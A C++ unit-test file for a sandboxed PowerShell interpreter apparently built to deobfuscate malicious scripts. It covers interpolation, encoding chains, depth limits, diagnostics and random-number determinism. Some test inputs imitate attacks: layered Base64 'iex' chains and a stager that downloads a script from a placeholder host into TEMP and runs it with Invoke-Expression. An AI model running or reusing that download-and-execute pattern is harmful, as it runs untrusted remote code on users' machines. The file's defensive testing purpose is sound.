// Third interpreter battery: string interpolation edge cases, encoding
// chains, nested invocation depth, and diagnostics.

#include <gtest/gtest.h>

#include <thread>
#include <vector>

#include "ideobf/api.h"

#include "core/token_pass.h"
#include "psast/diagnostics.h"
#include "psast/parser.h"
#include "psinterp/interpreter.h"

namespace ps {
namespace {

Value run(std::string_view script) {
  Interpreter interp;
  return interp.evaluate_script(script);
}

std::string run_str(std::string_view script) { return run(script).to_display_string(); }

// ------------------------------------------------------- interpolation

TEST(Interp3, BracedInterpolation) {
  EXPECT_EQ(run_str("$n = 'world'; \"hi ${n}!\""), "hi world!");
}

TEST(Interp3, EnvInterpolation) {
  EXPECT_EQ(run_str("\"user=$env:USERNAME\""), "user=user");
}

TEST(Interp3, EscapedDollarStaysLiteral) {
  EXPECT_EQ(run_str("$v = 5; \"`$v is $v\""), "$v is 5");
}

TEST(Interp3, AdjacentVariables) {
  EXPECT_EQ(run_str("$a='x'; $b='y'; \"$a$b\""), "xy");
}

TEST(Interp3, SubexpressionWithMethodCall) {
  EXPECT_EQ(run_str("$s = 'ab'; \"len=$($s.Length)\""), "len=2");
}

TEST(Interp3, UnknownVariableExpandsEmpty) {
  EXPECT_EQ(run_str("\"[$nope]\""), "[]");
}

TEST(Interp3, NestedQuotesInSubexpression) {
  EXPECT_EQ(run_str("\"v=$('a' + 'b')\""), "v=ab");
}

TEST(Interp3, DollarAtEndIsLiteral) {
  EXPECT_EQ(run_str("\"cost: 5$\""), "cost: 5$");
}

TEST(Interp3, HereDoubleInterpolates) {
  EXPECT_EQ(run_str("$x = 'X'; @\"\nval $x\n\"@"), "val X");
}

// ------------------------------------------------- default environment

TEST(Interp3, DefaultEnvironmentValues) {
  EXPECT_EQ(run_str("$env:ComSpec"), "C:\\Windows\\system32\\cmd.exe");
  EXPECT_EQ(run_str("[Environment]::GetEnvironmentVariable('TEMP')"),
            "C:\\Users\\user\\AppData\\Local\\Temp");
  EXPECT_EQ(run_str("$env:tmp"), "C:\\Users\\user\\AppData\\Local\\Temp");
  EXPECT_EQ(run_str("[Environment]::GetEnvironmentVariable('nope')"), "");
}

TEST(Interp3, EnvWriteStaysInItsInterpreter) {
  Interpreter first;
  EXPECT_EQ(first.evaluate_script("$env:temp = 'x'; $env:TEMP").to_display_string(), "x");
  EXPECT_EQ(first.evaluate_script("[Environment]::GetEnvironmentVariable('Temp')")
                .to_display_string(),
            "x");
  Interpreter second;
  EXPECT_EQ(second.evaluate_script("$env:temp").to_display_string(),
            "C:\\Users\\user\\AppData\\Local\\Temp");
}

TEST(Interp3, UnknownStrictEnvReadThrows) {
  InterpreterOptions opts;
  opts.strict_variables = true;
  Interpreter interp(opts);
  EXPECT_THROW(interp.evaluate_script("$env:NoSuchVariable"), EvalError);
  EXPECT_EQ(interp.evaluate_script("$env:username").to_display_string(), "user");
  EXPECT_EQ(interp.evaluate_script("$env:custom = 'v'; $env:custom").to_display_string(), "v");
}

// --------------------------------------------------------- deep chains

TEST(Interp3, Base64OfBase64) {
  // Double-encoded payloads unwind layer by layer.
  Interpreter interp;
  const std::string inner = "'done'";
  const std::string b64_1 = interp.evaluate_script(
      "[Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes(\"" +
      inner + "\"))").to_display_string();
  const std::string b64_2 = interp.evaluate_script(
      "[Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes('" + b64_1 +
      "'))").to_display_string();
  const std::string script =
      "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String("
      "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" +
      b64_2 + "')))))";
  EXPECT_EQ(interp.evaluate_script(script).to_display_string(), "done");
}

TEST(Interp3, CharMathChain) {
  EXPECT_EQ(run_str("-join ((105,101,120) | % { [char]([int]$_) })"), "iex");
  EXPECT_EQ(run_str("[string][char](104+1)"), "i");
}

TEST(Interp3, SplitEmptyPieces) {
  // Splitting produces empty pieces around adjacent delimiters; they join
  // away cleanly.
  EXPECT_EQ(run_str("('a,,b' -split ',') -join '/'"), "a//b");
}

TEST(Interp3, JoinOnScalar) { EXPECT_EQ(run_str("'solo' -join '-'"), "solo"); }

TEST(Interp3, ReverseStringIdioms) {
  EXPECT_EQ(run_str("$s = 'cba'; [string]::Join('', $s[($s.Length-1)..0])"),
            "abc");
  EXPECT_EQ(run_str("-join ([char[]]'dcba')[3..0]"), "abcd");
}

// ------------------------------------------------------------ robustness

TEST(Interp3, VeryDeepIexNesting) {
  // 10 nested invocation layers stay within the default depth limit.
  std::string script = "'42'";
  for (int i = 0; i < 10; ++i) {
    std::string quoted;
    for (char c : script) {
      if (c == '\'') quoted += "''";
      else quoted.push_back(c);
    }
    script = "iex '" + quoted + "'";
  }
  EXPECT_EQ(run_str(script), "42");
}

TEST(Interp3, StepBudgetResetsPerTopLevelScript) {
  // A long-lived interpreter must not accumulate steps across independent
  // evaluations (regression: the substrate bench tripped the limit after
  // thousands of reuses).
  InterpreterOptions opts;
  opts.max_steps = 2000;
  Interpreter interp(opts);
  for (int i = 0; i < 200; ++i) {
    EXPECT_EQ(interp.evaluate_script("'a'+'b'").to_display_string(), "ab");
  }
}

TEST(Interp3, HugeStringGuard) {
  InterpreterOptions opts;
  opts.max_string = 1000;
  Interpreter interp(opts);
  EXPECT_THROW(interp.evaluate_script("'x' * 100000"), LimitError);
}

TEST(Interp3, ScriptBlockDepthGuard) {
  InterpreterOptions opts;
  opts.max_depth = 4;
  Interpreter interp(opts);
  EXPECT_THROW(
      interp.evaluate_script("function Rec { Rec }; Rec"),
      LimitError);
}

// ------------------------------------------------------------- tokenpass

TEST(Interp3, TokenPassJoinsLineContinuations) {
  ideobf::TokenPassStats stats;
  const std::string out =
      ideobf::token_pass("Write-Host `\n hello", &stats);
  EXPECT_EQ(out.find('`'), std::string::npos);
  EXPECT_TRUE(is_valid_syntax(out)) << out;
  EXPECT_GE(stats.ticks_removed, 1);
}

// ------------------------------------------------------------ diagnostics

TEST(Diagnostics, PositionOf) {
  const std::string src = "line1\nline2\nline3";
  EXPECT_EQ(position_of(src, 0).line, 1);
  EXPECT_EQ(position_of(src, 0).column, 1);
  EXPECT_EQ(position_of(src, 6).line, 2);
  EXPECT_EQ(position_of(src, 8).column, 3);
}

TEST(Diagnostics, CaretPointsAtOffset) {
  const std::string src = "$a = (1 +";
  std::string msg;
  std::size_t offset = 0;
  try {
    parse(src);
    FAIL() << "expected a parse error";
  } catch (const ParseError& e) {
    msg = e.what();
    offset = e.offset;
  }
  const std::string rendered = format_diagnostic(src, offset, msg);
  EXPECT_NE(rendered.find("error at line 1"), std::string::npos);
  EXPECT_NE(rendered.find('^'), std::string::npos);
  EXPECT_NE(rendered.find(src), std::string::npos);
}

TEST(Diagnostics, LongLinesAreWindowed) {
  const std::string src = std::string(300, 'a') + "\x01";
  const std::string rendered = format_diagnostic(src, 300, "boom");
  for (const auto& line : {rendered}) {
    EXPECT_LT(line.find('^'), line.size());
  }
  // Rendered body stays within the window plus decorations.
  std::istringstream stream(rendered);
  std::string line;
  while (std::getline(stream, line)) {
    EXPECT_LE(line.size(), 140u);
  }
}

// ------------------------------------------------------------ Get-Random

std::vector<std::int64_t> draws(int n) {
  Interpreter interp;
  std::vector<std::int64_t> out;
  for (int i = 0; i < n; ++i) {
    out.push_back(interp.evaluate_script("Get-Random -Maximum 1000").get_int());
  }
  return out;
}

TEST(GetRandom, EachInterpreterDrawsTheSameSequence) {
  // Each interpreter owns its generator, seeded alike: what one draws does
  // not depend on the draws of another, on this thread or any other.
  const std::vector<std::int64_t> alone = draws(500);
  std::vector<std::int64_t> a, b;
  std::thread ta([&] { a = draws(500); });
  std::thread tb([&] { b = draws(500); });
  ta.join();
  tb.join();
  EXPECT_EQ(a, alone);
  EXPECT_EQ(b, alone);
  // A draw is a write: a record read before it must not replay after it.
  Interpreter interp;
  interp.mark_seeded();
  (void)interp.evaluate_script("Get-Random");
  EXPECT_TRUE(interp.wrote());
}

TEST(GetRandom, OneShotMatchesBatch) {
  const std::vector<std::string> scripts = {
      "$r = Get-Random -Maximum 100; Write-Host ('n' + $r)",
      "$p = 1, 2, 3 | Get-Random; Write-Host ('p' + $p)",
      "$r = Get-Random; $s = Get-Random; Write-Host ('' + $r + $s)",
  };
  std::vector<ideobf::Request> requests;
  for (int copy = 0; copy < 4; ++copy) {
    for (const std::string& script : scripts) {
      ideobf::Request r;
      r.source = script;
      requests.push_back(r);
    }
  }
  ideobf::Options options;
  options.threads = 2;
  const ideobf::Engine engine(options);
  const std::vector<ideobf::Response> batch = engine.handle_batch(requests);
  ASSERT_EQ(batch.size(), requests.size());
  for (std::size_t i = 0; i < requests.size(); ++i) {
    EXPECT_EQ(batch[i].result, engine.handle(requests[i]).result) << i;
    EXPECT_EQ(batch[i].result, batch[i % scripts.size()].result) << i;
  }
}

// ------------------------------------------------------------ file reads

TEST(FileReads, StrictReadsOfUnwrittenFilesFail) {
  InterpreterOptions strict_opts;
  strict_opts.strict_variables = true;
  for (const char* read :
       {"Get-Content 'C:\\stage.ps1'", "[IO.File]::ReadAllText('C:\\s')",
        "[IO.File]::ReadAllBytes('C:\\s')"}) {
    Interpreter strict(strict_opts);
    EXPECT_THROW((void)strict.evaluate_script(read), EvalError) << read;
    // The sandbox reads a missing file as empty, as before.
    Interpreter permissive;
    EXPECT_NO_THROW((void)permissive.evaluate_script(read)) << read;
  }
  Interpreter strict(strict_opts);
  EXPECT_EQ(strict
                .evaluate_script("[IO.File]::WriteAllText('C:\\s', 'hi'); "
                                 "Get-Content 'C:\\S'")
                .to_display_string(),
            "hi");
}

TEST(FileReads, StagersKeepTheirDownloadedScript) {
  // The stage file is written by a blocked download: recovery must not
  // read it as '' and unwrap the Invoke-Expression away.
  const std::string script =
      "$stage = Join-Path $env:TEMP 'u.ps1'; (New-Object Net.WebClient)."
      "DownloadFile('http://x.example/u.ps1', $stage); Invoke-Expression "
      "(Get-Content $stage)";
  const ideobf::Response r = ideobf::Engine{}.handle({script});
  EXPECT_NE(r.result.find("Get-Content"), std::string::npos) << r.result;
  EXPECT_NE(r.result.find("Invoke-Expression"), std::string::npos) << r.result;
}

}  // namespace
}  // namespace ps
